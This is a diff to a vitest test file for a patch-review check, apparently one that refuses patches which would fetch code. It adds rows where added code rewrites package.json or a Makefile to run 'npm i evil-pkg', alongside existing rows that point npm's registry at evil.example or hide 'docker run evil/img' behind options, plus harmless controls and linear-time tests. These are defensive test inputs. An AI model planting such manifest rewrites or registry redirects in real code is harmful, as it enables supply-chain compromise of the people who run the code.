@@ -1,11 +1,13 @@
-import { describe, it } from 'vitest';
-import { closedRows, type FindingRow, describeFindings, expectAccepted } from '../support/patches.js';
+import { describe, expect, it } from 'vitest';
+import { checkPatch } from '../../shared/analysis/index.js';
+import { setsManagerConfiguration } from '../../shared/analysis/patch.js';
+import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES, repeatedTo } from '../support/growth.js';
+import { closedRows, type FindingRow, describeFindings, expectAccepted, patchAdding } from '../support/patches.js';
 
 /**
  * Our own review of the patch check after session 43 (rows written in session 44): patches the check accepted
  * although an allowed call (`pnpm run`, `cargo build`) would fetch code because of what else the patch changes, or a
- * command string hides its fetching verb past the options the reading skipped. Each row asserts the refusal; an open
- * one is `it.fails` while the check accepts it.
+ * command string hides its fetching verb past the options the reading skipped. Each row asserts the refusal.
  */
 const PY = (call: string) => `import subprocess\nsubprocess.run(${call})`;
 const SYSTEM = (command: string) => `import os\nos.system('${command}')`;
@@ -53,6 +55,17 @@ const OPTIONS_BEFORE_THE_VERB: FindingRow[] = [
   ['src/check.js', "execSync('docker --a --b --c --d run evil/img')"],
 ];
 
+// R5 (high, found on the way): a package.json or Makefile written by the added code, whose scripts the next allowed
+// `npm test` or `make` runs (the files themselves are off the allow-list; writing them was not read).
+const MANIFEST_WRITTEN: FindingRow[] = [
+  ['src/check.js', "fs.writeFileSync('package.json', JSON.stringify({ scripts: { test: 'npm i evil-pkg && vitest' } }))"],
+  ['src/check.js', "fs.writeFileSync(path.join(root, 'package.json'), data)"],
+  ['src/check.js', "fs.copyFileSync('tests/fixtures/evil.json', 'package.json')"],
+  ['src/check.py', "open('package.json', 'w').write(manifest)"],
+  ['src/check.py', "Path('Makefile').write_text('test:\\n\\tnpm i evil-pkg')"],
+  ['src/check.py', "shutil.copy('tests/fixtures/evil.json', 'package.json')"],
+];
+
 // R4 (high): the same configuration set in the environment the next allowed call inherits.
 const MANAGER_ENVIRONMENT: FindingRow[] = [
   ['src/check.py', "import os\nos.environ['npm_config_registry'] = 'https://evil.example/'"],
@@ -67,10 +80,11 @@ const MANAGER_ENVIRONMENT: FindingRow[] = [
 
 
 describeFindings('review-43', [
-  ['R1', [...closedRows(REFUSED_BEFORE), ...MANAGER_CONFIGURATION]],
-  ['R2', TOOLCHAIN_FETCHES],
-  ['R3', OPTIONS_BEFORE_THE_VERB],
-  ['R4', MANAGER_ENVIRONMENT],
+  ['R1', [...closedRows(REFUSED_BEFORE), ...closedRows(MANAGER_CONFIGURATION)]],
+  ['R2', closedRows(TOOLCHAIN_FETCHES)],
+  ['R3', closedRows(OPTIONS_BEFORE_THE_VERB)],
+  ['R4', closedRows(MANAGER_ENVIRONMENT)],
+  ['R5', closedRows(MANIFEST_WRITTEN)],
 ]);
 
 describe('review-43 controls', () => {
@@ -83,5 +97,27 @@ describe('review-43 controls', () => {
     ['src/check.js', "const registry = process.env.npm_config_user_agent;"],
     ['src/check.rs', 'let dir = env!("CARGO_MANIFEST_DIR");'],
     ['tests/fixtures/app/config.toml', 'x = 1'],
+    ['src/check.js', "const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));"],
+    ['src/check.py', "version = json.load(open('package.json'))['version']"],
+    ['src/check.py', "text = open('package.json', 'r').read()"],
   ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
+});
+
+describe('review-43: the readings added in session 44 stay linear', () => {
+  it.each([
+    ['quiet options before a verb', "run('npm -q -q --silent -v -q -q -q -q -q -q -q -q "],
+    ['options and toolchains after package managers', "run('npm -q --a --b cargo +x pip -v -- "],
+  ] as const)('reads %s in linear time', { timeout: 120_000 }, (_, unit) => {
+    const exponent = cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), (text) => checkPatch(patchAdding('src/check.js', [text])));
+    expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
+  });
+
+  // Read alone: in the whole check, slower readings of the same line hide a quadratic one at these sizes.
+  it.each([
+    ['configuration paths never closed', "'a/b/.npmrc/c/rust-toolchain/d/"],
+    ['environment names run together', '-uv_'],
+    ['files opened, never for writing', "open('y', "],
+  ] as const)('reads %s in linear time', { timeout: 120_000 }, (_, unit) => {
+    expect(cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), setsManagerConfiguration)).toBeLessThan(LINEAR_EXPONENT_BOUND);
+  });
 });
